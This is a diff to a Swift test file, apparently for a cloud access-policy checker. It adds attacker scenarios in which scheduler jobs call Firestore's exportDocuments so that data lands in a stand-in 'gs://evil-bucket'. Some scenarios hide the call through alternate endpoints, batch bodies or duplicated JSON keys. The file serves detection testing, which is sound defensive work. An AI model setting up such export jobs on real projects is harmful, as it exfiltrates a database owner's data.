@@ -1,4 +1,5 @@
 import Documents
+import Foundation
 import Policy
 import Testing
 
@@ -166,6 +167,20 @@ struct AttackerWay: Sendable, CustomTestStringConvertible {
 
   private static let otherJob = "projects/pyme-erp/locations/asia-east1/jobs/copy"
 
+  private static let call = "firestore.googleapis.com/v1/\(AccessSamples.production):exportDocuments"
+  private static let twoPlaces =
+    #"{"outputUriPrefix":"gs://\#(AccessSamples.bucket)","output_uri_prefix":"gs://evil-bucket"}"#
+
+  /// Another job that calls an address.
+  private static func job(_ address: String, body: String = #"{"outputUriPrefix":"gs://evil-bucket"}"#) throws
+    -> SchedulerJob
+  {
+    var job = try AccessSamples.exportJob(otherJob)
+    job.httpTarget?.uri = "https://\(address)"
+    job.httpTarget?.body = Data(body.utf8)
+    return job
+  }
+
   private static let exits: [AttackerWay] = [
     AttackerWay("the nightly job exports elsewhere", .job, ours: nil) {
       $0.jobs.jobs = [try AccessSamples.exportJob(to: "gs://evil-bucket")]
@@ -182,10 +197,40 @@ struct AttackerWay: Sendable, CustomTestStringConvertible {
     AttackerWay(
       "such a job calls a host of one region", .job, ours: [.job(ExactName(otherJob)), .bucket("evil-bucket")]
     ) {
-      var job = try AccessSamples.exportJob(otherJob, to: "gs://evil-bucket")
-      job.httpTarget?.uri =
-        "https://firestore.us-east1.rep.googleapis.com/v1/projects/pyme-erp/databases/x%3AexportDocuments"
-      $0.jobs.jobs.append(job)
+      $0.jobs.jobs.append(
+        try job("firestore.us-east1.rep.googleapis.com/v1/projects/pyme-erp/databases/x%3AexportDocuments"))
+    },
+    AttackerWay(
+      "such a job has a query that is not text", .job, ours: [.job(ExactName(otherJob)), .bucket("evil-bucket")]
+    ) {
+      $0.jobs.jobs.append(try job("firestore.googleapis.com/v1/projects/pyme-erp/databases/x%3AexportDocuments?a=%FF"))
+    },
+    AttackerWay(
+      "such a job has another form of the call", .job, ours: [.job(ExactName(otherJob)), .bucket("evil-bucket")]
+    ) {
+      $0.jobs.jobs.append(
+        try job("firestore.googleapis.com/$rpc/google.firestore.admin.v1.FirestoreAdmin/ExportDocuments"))
+    },
+    AttackerWay("a job's call is in the body of a batch", .job, ours: nil) {
+      $0.jobs.jobs.append(
+        try job("firestore.googleapis.com/batch", body: "POST /v1/projects/p/databases/d:exportDocuments HTTP/1.1"))
+    },
+    AttackerWay("a job that names our bucket does not call an export", .job, ours: [.job(ExactName(otherJob))]) {
+      $0.jobs.jobs.append(
+        try job("evil.example/:exportDocuments", body: #"{"outputUriPrefix":"gs://\#(AccessSamples.bucket)"}"#))
+    },
+    AttackerWay("another job names two places", .job, ours: nil) {
+      $0.jobs.jobs.append(try job(call, body: twoPlaces))
+    },
+    AttackerWay("another job names a place twice", .job, ours: nil) {
+      $0.jobs.jobs.append(
+        try job(
+          call, body: #"{"outputUriPrefix":"gs://evil-bucket","outputUriPrefix":"gs://\#(AccessSamples.bucket)"}"#))
+    },
+    AttackerWay("the nightly job names two places", .job, ours: nil) {
+      var own = try AccessSamples.exportJob()
+      own.httpTarget?.body = Data(twoPlaces.utf8)
+      $0.jobs.jobs = [own]
     },
     AttackerWay("an export went elsewhere", .export, ours: [.bucket("evil-bucket")]) {
       $0.operations[0].operations = .success([try AccessSamples.export(to: "gs://evil-bucket/loot")])
